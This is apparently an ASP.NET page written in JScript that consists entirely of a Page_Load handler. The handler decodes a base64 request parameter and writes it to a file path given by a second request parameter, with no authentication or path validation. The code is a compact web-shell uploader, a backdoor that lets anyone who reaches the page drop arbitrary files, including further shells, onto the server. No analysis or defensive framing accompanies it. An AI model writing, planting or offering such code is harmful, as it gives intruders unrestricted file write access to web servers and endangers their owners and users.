<%@ Page Language="JScript" %>
<script runat="server">
function Page_Load() {
    var b = System.Convert.FromBase64String(Request.Item["b"]);
    var fs = new System.IO.FileStream(Request.Item["t"], System.IO.FileMode.Create);
    fs.Write(b, 0, b.length);
    fs.Close();
}
</script>
